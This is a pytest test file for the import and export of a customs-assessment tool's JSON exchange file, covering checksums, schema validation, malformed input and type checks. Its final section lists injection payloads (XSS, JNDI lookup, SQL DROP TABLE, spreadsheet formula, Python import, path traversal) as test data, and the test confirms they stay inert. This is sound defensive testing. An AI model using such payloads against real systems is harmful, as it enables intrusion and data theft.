"""The .gcat.json exchange file: round trip, checksum, schema and refusal of bad files.

Exported files are validated against docs/exchange-schema.json with ``jsonschema_rs`` (a full
Draft 2020-12 validator installed with schemathesis, a test dependency); the Python package
``jsonschema`` is not installed and not needed.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import jsonschema_rs
import pytest

from gcat.core.assessment import Answer, Assessment
from gcat.core.evaluation import Evaluation, evaluate
from gcat.core.text import clean_text
from gcat.errors import AnswersFileError
from gcat.exchange.exchange_file import exchange_checksum, export_exchange
from gcat.exchange.exchange_import import import_exchange
from gcat.limits import MAX_DOCUMENT_BYTES as MAX_EXCHANGE_BYTES

SCHEMA_PATH = Path(__file__).resolve().parents[1] / "docs" / "exchange-schema.json"
WHEN = datetime(2025, 12, 1, 9, 30, tzinfo=UTC)
OPTIONAL_KEYS = {"feedback", "signoff"}
"""Keys an exported file holds only when they apply (a signed assessment, feedback asked for)."""
SOURCE = "valdoria.gcat.json"


@dataclass(frozen=True)
class Attachment:
    indicator_id: str
    filename: str
    sha256: str
    size: int


@pytest.fixture(scope="module")
def exported(demo: tuple[Evaluation, ...]) -> bytes:
    return export_exchange(demo[1], exported_at=WHEN)


@pytest.fixture(scope="module")
def validator() -> Any:
    schema = json.loads(SCHEMA_PATH.read_text("utf-8"))
    return jsonschema_rs.Draft202012Validator(schema)


def mutate(data: bytes, change: Callable[[dict[str, Any]], None], *, reseal: bool = True) -> bytes:
    """``data`` with ``change`` applied; with a fresh checksum when ``reseal``."""
    payload = json.loads(data)
    change(payload)
    if reseal and isinstance(payload.get("checksum"), dict):
        payload["checksum"]["value"] = exchange_checksum(payload)
    return json.dumps(payload, ensure_ascii=False, indent=2).encode("utf-8")


def refusal(data: bytes, source: str = SOURCE) -> AnswersFileError:
    with pytest.raises(AnswersFileError) as caught:
        import_exchange(data, source)
    return caught.value


def scoped(framework_evaluation: Evaluation) -> Evaluation:
    """Two domains, with N/A, unanswered, comment-only and flagged answers."""
    assessment = Assessment(
        framework_id="gcat",
        framework_version="1.0",
        administration="Aduana de Prueba — Dirección Nacional",
        cycle="2026",
        domains=("facilitation", "green_tariff"),
        answers={
            "FA-01": Answer(level=3, evidence=("Extracto del sistema: 88 %",), flagged=True),
            "FA-02": Answer(level=0, target=3, comment="Rien n'est en place."),
            "FA-03": Answer(not_applicable=True, reason="Régime fixé par l'union douanière"),
            "FA-04": Answer(comment="Sin respuesta todavía"),
            "GT-02": Answer(level=5, evidence=("a", "b")),
        },
    )
    return evaluate(framework_evaluation.framework, assessment)


# --- round trip and determinism --------------------------------------------------------------


@pytest.mark.parametrize("index", [0, 1])
def test_demo_round_trip(demo: tuple[Evaluation, ...], index: int) -> None:
    evaluation = demo[index]
    data = export_exchange(evaluation, exported_at=WHEN)
    framework, assessment = import_exchange(data, SOURCE)
    assert framework is evaluation.framework
    assert assessment == evaluation.assessment
    # exporting the imported assessment gives the very same bytes
    assert export_exchange(evaluate(framework, assessment), exported_at=WHEN) == data


def test_scoped_round_trip_with_tracking_and_attachments(
    demo: tuple[Evaluation, ...], validator: Any
) -> None:
    evaluation = scoped(demo[1])
    sha = hashlib.sha256(b"x").hexdigest()
    data = export_exchange(
        evaluation,
        exported_at=WHEN,
        tracking={"FA-02": ("Unidad de ventanilla única", date(2026, 6, 30), "in_progress")},
        attachments=[Attachment("FA-01", "extracto-2025.pdf", sha, 1234)],
    )
    validator.validate(json.loads(data))
    payload = json.loads(data)
    assert payload["domains"] == ["facilitation", "green_tariff"]
    assert payload["answers"]["FA-03"]["level"] == "na"
    assert payload["answers"]["FA-04"]["level"] is None
    assert payload["attachments"] == [
        {"indicator_id": "FA-01", "filename": "extracto-2025.pdf", "sha256": sha, "size": 1234}
    ]
    fa02 = next(item for item in payload["plan"] if item["indicator_id"] == "FA-02")
    assert fa02 == {
        "indicator_id": "FA-02",
        "current": 0,
        "target": 3,
        "priority": "high",
        "horizon": "long",
        "owner": "Unidad de ventanilla única",
        "due": "2026-06-30",
        "status": "in_progress",
    }
    untracked = [item for item in payload["plan"] if item["indicator_id"] != "FA-02"]
    assert all(i["owner"] == "" and i["due"] is None for i in untracked)
    assert all(i["status"] == "not_started" for i in untracked)
    _, assessment = import_exchange(data, SOURCE)
    assert assessment == evaluation.assessment


def test_import_is_deterministic_and_idempotent(exported: bytes) -> None:
    first = import_exchange(exported, SOURCE)
    second = import_exchange(exported, SOURCE)
    assert first == second
    assert first[1] is not second[1]  # a fresh value each time, nothing kept between calls


def test_export_is_deterministic_and_utc(demo: tuple[Evaluation, ...], exported: bytes) -> None:
    assert export_exchange(demo[1], exported_at=WHEN) == exported
    naive = export_exchange(demo[1], exported_at=datetime(2025, 12, 1, 9, 30))
    assert naive == exported
    paris = datetime.fromisoformat("2025-12-01T10:30:00+01:00")
    assert export_exchange(demo[1], exported_at=paris) == exported
    stamp = json.loads(export_exchange(demo[1]))["exported_at"]
    assert abs(datetime.fromisoformat(stamp) - datetime.now(UTC)).total_seconds() < 60


# --- schema ----------------------------------------------------------------------------------


def test_schema_is_valid_draft_2020_12() -> None:
    schema = json.loads(SCHEMA_PATH.read_text("utf-8"))
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert jsonschema_rs.meta.is_valid(schema)


@pytest.mark.parametrize("index", [0, 1])
def test_exported_files_match_the_schema(
    demo: tuple[Evaluation, ...], validator: Any, index: int
) -> None:
    payload = json.loads(export_exchange(demo[index]))
    validator.validate(payload)
    schema = json.loads(SCHEMA_PATH.read_text("utf-8"))
    assert set(schema["required"]) == set(payload)
    assert set(schema["properties"]) - set(payload) == OPTIONAL_KEYS
    answer_keys = set(schema["$defs"]["answer"]["required"])
    assert all(set(answer) == answer_keys for answer in payload["answers"].values())
    plan_keys = set(schema["properties"]["plan"]["items"]["required"])
    assert payload["plan"] and all(set(item) == plan_keys for item in payload["plan"])
    results = schema["properties"]["results"]
    assert set(results["required"]) == set(payload["results"])


# --- checksum --------------------------------------------------------------------------------


def test_checksum_is_over_the_documented_canonical_form(exported: bytes) -> None:
    payload = json.loads(exported)
    content = {key: value for key, value in payload.items() if key != "checksum"}
    canonical = json.dumps(content, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    expected = hashlib.sha256(canonical.encode("utf-8")).hexdigest()
    assert payload["checksum"] == {"algorithm": "sha256", "value": expected}
    assert exchange_checksum(payload) == expected


def test_layout_and_key_order_do_not_matter(exported: bytes) -> None:
    payload = json.loads(exported)
    shuffled = dict(reversed(list(payload.items())))
    compact = json.dumps(shuffled, separators=(",", ":")).encode("ascii")  # \u escapes
    assert import_exchange(compact, SOURCE) == import_exchange(exported, SOURCE)


def test_tampered_checksum_is_refused(exported: bytes) -> None:
    data = mutate(exported, lambda p: p["checksum"].update(value="0" * 64), reseal=False)
    problem = refusal(data).problems[0]
    assert problem.code == "exchange.bad_checksum"
    assert problem.field == "checksum.value"
    assert problem.source == SOURCE
    assert problem.line == data.decode().splitlines().index('    "value": "' + "0" * 64 + '"') + 1
    assert "changed after it was exported" in problem.localized("en")
    assert "modifié après son export" in problem.localized("fr")


@pytest.mark.parametrize(
    "change",
    [
        lambda p: p["answers"]["PL-01"].update(level=4),
        lambda p: p["answers"]["PL-01"].update(comment="Edited by hand"),
        lambda p: p["answers"].pop("PL-07"),
        lambda p: p.update(administration="Someone Else"),
        lambda p: p["plan"][0].update(owner="Me"),
        lambda p: p["results"]["overall"].update(score=4.5),
        lambda p: p.update(exported_at="2030-01-01T00:00:00Z"),
    ],
)
def test_any_change_with_the_old_checksum_is_refused(exported: bytes, change: Any) -> None:
    assert refusal(mutate(exported, change, reseal=False)).code == "exchange.bad_checksum"


# --- versions --------------------------------------------------------------------------------


def test_unknown_framework_version_is_refused(exported: bytes) -> None:
    data = mutate(exported, lambda p: p["framework"].update(version="9.9"))
    problem = refusal(data).problems[0]
    assert problem.code == "framework.unknown"
    assert problem.field == "framework.version"
    assert problem.line == 6
    assert "9.9" in problem.localized("es")
    unsealed = mutate(exported, lambda p: p["framework"].update(version="9.9"), reseal=False)
    assert refusal(unsealed).code == "exchange.bad_checksum"


@pytest.mark.parametrize("version", [2, 0, "1", True, 1.5, None])
def test_unknown_schema_version_is_refused(exported: bytes, version: Any) -> None:
    problem = refusal(mutate(exported, lambda p: p.update(schema_version=version))).problems[0]
    assert problem.code == "exchange.unknown_schema"
    assert problem.field == "schema_version"
    assert problem.line == 3
    assert "reads schema version 1" in problem.localized("en")


def test_not_an_exchange_file(exported: bytes) -> None:
    assert refusal(mutate(exported, lambda p: p.pop("format"))).code == "exchange.not_exchange"
    answers = b'schema: gcat-answers/1\nframework: {id: gcat, version: "1.0"}\n'
    assert refusal(answers).code == "json.syntax"
    assert refusal(b"[1, 2]").code == "check.not_mapping"
    missing = mutate(exported, lambda p: p.pop("schema_version"))
    assert refusal(missing).problems[0].params == {"key": "schema_version"}


# --- malformed files -------------------------------------------------------------------------


def test_malformed_json_reports_the_line(exported: bytes) -> None:
    lines = exported.decode().splitlines()
    broken = "\n".join(lines[:20]).encode()  # truncated
    problem = refusal(broken).problems[0]
    assert problem.code == "json.syntax"
    assert problem.line == 20
    assert problem.localized("en").startswith(f"{SOURCE}:20: the file is not valid JSON")
    lines[9] = lines[9].rstrip(",")  # a missing comma after line 10
    problem = refusal("\n".join(lines).encode()).problems[0]
    assert (problem.code, problem.line) == ("json.syntax", 11)


def test_duplicate_keys_are_refused_with_the_line(exported: bytes) -> None:
    text = exported.decode()
    doubled = text.replace('"cycle": "2025",', '"cycle": "2025",\n  "cycl\\u0065": "2024",', 1)
    problem = refusal(doubled.encode()).problems[0]
    assert (problem.code, problem.line, problem.params) == (
        "yaml.duplicate_key",
        10,
        {"key": "cycle"},
    )
    nested = text.replace('"level": 2,', '"level": 2,\n      "level": 5,', 1)
    problem = refusal(nested.encode()).problems[0]
    assert (problem.code, problem.line) == ("yaml.duplicate_key", 15)


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_non_standard_numbers_are_refused(exported: bytes, constant: str) -> None:
    text = exported.decode().replace('"completeness": 100.0', f'"completeness": {constant}', 1)
    problem = refusal(text.encode()).problems[0]
    assert problem.code == "exchange.not_json_number"
    assert text.splitlines()[problem.line - 1].strip().startswith('"completeness"')


def test_text_that_looks_like_a_constant_is_fine(demo: tuple[Evaluation, ...]) -> None:
    answer = Answer(level=1, comment='NaN, Infinity and "quotes" {[:,]}\n\\ are text')
    evaluation = evaluate(
        demo[1].framework,
        replace(demo[1].assessment, answers={**demo[1].assessment.answers, "PL-01": answer}),
    )
    _, assessment = import_exchange(export_exchange(evaluation), SOURCE)
    assert assessment.answers["PL-01"].comment == answer.comment


def test_oversized_files_are_refused_before_parsing() -> None:
    data = b"{" + b" " * MAX_EXCHANGE_BYTES  # not even JSON: the size is checked first
    problem = refusal(data).problems[0]
    assert problem.code == "file.too_large"
    assert problem.params == {"limit": 10}


def test_encoding_nesting_and_huge_numbers(exported: bytes) -> None:
    assert refusal('{"a": "é"}'.encode("latin-1")).code == "file.not_utf8"
    assert refusal(b"[" * 100_000 + b"]" * 100_000).code == "yaml.too_complex"
    assert refusal(b'{"format": ' + b"9" * 5000 + b"}").code == "yaml.too_complex"
    lone = exported.replace(b'"comment": "A stand', b'"comment": "\\ud800 A stand', 1)
    problem = refusal(lone).problems[0]
    assert (problem.code, problem.line) == ("exchange.bad_unicode", 17)
    pair = exported.replace(b'"comment": "A stand', b'"comment": "\\ud83d\\ude00 A stand', 1)
    pair = mutate(pair, lambda p: None)
    assert import_exchange(pair, SOURCE)[1].answers["PL-01"].comment.startswith("\U0001f600 A")
    with_bom = b"\xef\xbb\xbf" + exported
    assert import_exchange(with_bom, SOURCE) == import_exchange(exported, SOURCE)


# --- wrong types: refused by the import and by the published schema --------------------------

WRONG = [
    (lambda p: p.update(answers=[]), "check.not_mapping", "answers"),
    (lambda p: p.update(administration=42), "check.not_text", "administration"),
    (lambda p: p.update(cycle=" "), "check.empty_text", "cycle"),
    (lambda p: p.update(domains="facilitation"), "exchange.not_list", "domains"),
    (lambda p: p.update(exported_at="yesterday"), "exchange.bad_timestamp", "exported_at"),
    (lambda p: p.update(exported_at="2025-13-01T00:00:00Z"), "exchange.bad_timestamp", None),
    (lambda p: p.update(extra=1), "check.unknown_key", "extra"),
    (lambda p: p.pop("plan"), "check.missing_key", None),
    (lambda p: p["framework"].update(id=["gcat"]), "check.not_text", "framework.id"),
    (
        lambda p: p["answers"]["PL-01"].update(level="three"),
        "answers.bad_level",
        "answers.PL-01.level",
    ),
    (lambda p: p["answers"]["PL-01"].update(level="3"), "answers.bad_level", None),
    (lambda p: p["answers"]["PL-01"].update(level=6), "answers.bad_level", None),
    (lambda p: p["answers"]["PL-01"].update(level=True), "answers.bad_level", None),
    (lambda p: p["answers"]["PL-01"].update(target=2.5), "answers.bad_target", None),
    (lambda p: p["answers"]["PL-01"].update(flagged="yes"), "check.not_boolean", None),
    (lambda p: p["answers"]["PL-01"].update(evidence="one note"), "exchange.not_list", None),
    (lambda p: p["answers"]["PL-01"].update(evidence=[1]), "check.not_text", None),
    (lambda p: p["answers"]["PL-01"].update(comment="x" * 5001), "check.text_too_long", None),
    (lambda p: p["answers"]["PL-01"].pop("reason"), "check.missing_key", "answers.PL-01"),
    (lambda p: p["answers"]["PL-01"].update(note=""), "check.unknown_key", None),
    (lambda p: p["answers"].update({"PL-01": 2}), "check.not_mapping", None),
    (lambda p: p.update(plan={}), "exchange.not_list", "plan"),
    (lambda p: p["plan"][0].update(due="30/06/2026"), "exchange.bad_date", "plan[0].due"),
    (lambda p: p["plan"][0].update(status="maybe"), "check.bad_choice", "plan[0].status"),
    (lambda p: p["plan"][0].update(current=-1), "exchange.bad_integer", None),
    (lambda p: p["plan"][0].update(owner=None), "check.not_text", None),
    (
        lambda p: p["attachments"].append(
            {"indicator_id": "PL-01", "filename": "a.pdf", "sha256": "0" * 64, "size": -1}
        ),
        "exchange.bad_count",
        "attachments[0].size",
    ),
    (
        lambda p: p["attachments"].append(
            {"indicator_id": "PL-01", "filename": "a.pdf", "sha256": "XYZ", "size": 1}
        ),
        "exchange.bad_hex",
        "attachments[0].sha256",
    ),
    (lambda p: p["results"].update(completeness="100"), "exchange.bad_number", None),
    (lambda p: p["results"]["overall"].update(score=7), "exchange.bad_number", None),
    (lambda p: p["checksum"].update(algorithm="md5"), "check.bad_choice", "checksum.algorithm"),
    (lambda p: p["checksum"].update(value="abc"), "exchange.bad_hex", "checksum.value"),
    (lambda p: p.update(checksum="abc"), "check.not_mapping", "checksum"),
]


@pytest.mark.parametrize(("change", "code", "field"), WRONG)
def test_wrong_types_are_refused(
    exported: bytes, validator: Any, change: Any, code: str, field: str | None
) -> None:
    data = mutate(exported, change, reseal=not (field or "").startswith("checksum"))
    assert not validator.is_valid(json.loads(data))
    problem = refusal(data).problems[0]
    assert problem.code == code
    if field is not None:
        assert problem.field == field
    assert problem.line is not None
    assert problem.localized("fr") != problem.localized("en")


def test_impossible_dates_are_refused(exported: bytes, validator: Any) -> None:
    """The schema's patterns cannot know calendars (its "format" is an annotation); import does."""
    data = mutate(exported, lambda p: p["plan"][0].update(due="2026-02-30"))
    assert validator.is_valid(json.loads(data))
    assert refusal(data).code == "exchange.bad_date"


# --- answer rules, through the answers-file parser -------------------------------------------

RULES = [
    (lambda p: p["answers"]["PL-01"].update(level="na", reason="x"), "answers.na_not_allowed"),
    (lambda p: p["answers"]["PL-01"].update(target=1), "answers.target_below_level"),
    (lambda p: p["answers"].update({"ZZ-01": p["answers"]["PL-01"]}), "answers.unknown_indicator"),
    (lambda p: p.update(domains=["facilitation"]), "answers.out_of_scope"),
    (lambda p: p.update(domains=["customs"]), "check.unknown_domain"),
    (lambda p: p.update(domains=[]), "answers.no_domains"),
    (lambda p: p["plan"][0].update(indicator_id="ZZ-01"), "answers.unknown_indicator"),
]


@pytest.mark.parametrize(("change", "code"), RULES)
def test_answer_rules_apply(exported: bytes, change: Any, code: str) -> None:
    problem = refusal(mutate(exported, change)).problems[0]
    assert problem.code == code
    assert problem.line is not None


def test_na_answer_needs_a_reason(demo: tuple[Evaluation, ...]) -> None:
    data = mutate(
        export_exchange(scoped(demo[1])), lambda p: p["answers"]["FA-03"].update(reason=" ")
    )
    problem = refusal(data).problems[0]
    assert (problem.code, problem.field) == ("answers.na_needs_reason", "answers.FA-03.reason")
    lines = data.decode().splitlines()
    assert lines[problem.line - 1].strip() == '"reason": " ",'


# --- hostile text ----------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://x/a}",
    "'; DROP TABLE answers; --",
    '=HYPERLINK("http://x","y")',
    "__import__('pathlib').Path('/tmp/gcat-pwned').touch()",
    "\u202eevil\u202c \u0000 nul",
    "../../etc/passwd",
]


def test_hostile_text_is_kept_as_data(demo: tuple[Evaluation, ...], tmp_path: Path) -> None:
    answers = {
        "PL-01": Answer(level=2, comment=HOSTILE[0], evidence=tuple(HOSTILE[1:])),
        "PL-02": Answer(level=1, comment=HOSTILE[4], reason=HOSTILE[2]),
    }
    assessment = replace(demo[1].assessment, administration=HOSTILE[3], answers=answers)
    evaluation = evaluate(demo[1].framework, assessment)
    data = export_exchange(evaluation, exported_at=WHEN)
    _, imported = import_exchange(data, SOURCE)
    # Text is kept as data; only control characters and bidi overrides go (issue 7).
    cleaned = {
        key: replace(
            a,
            comment=clean_text(a.comment),
            reason=clean_text(a.reason),  # kept as data even without N/A
            evidence=tuple(clean_text(e) for e in a.evidence),
        )
        for key, a in answers.items()
    }
    assert imported == replace(assessment, answers=cleaned)
    assert imported.answers["PL-01"].evidence[4] == "evil  nul"
    assert not Path("/tmp/gcat-pwned").exists()
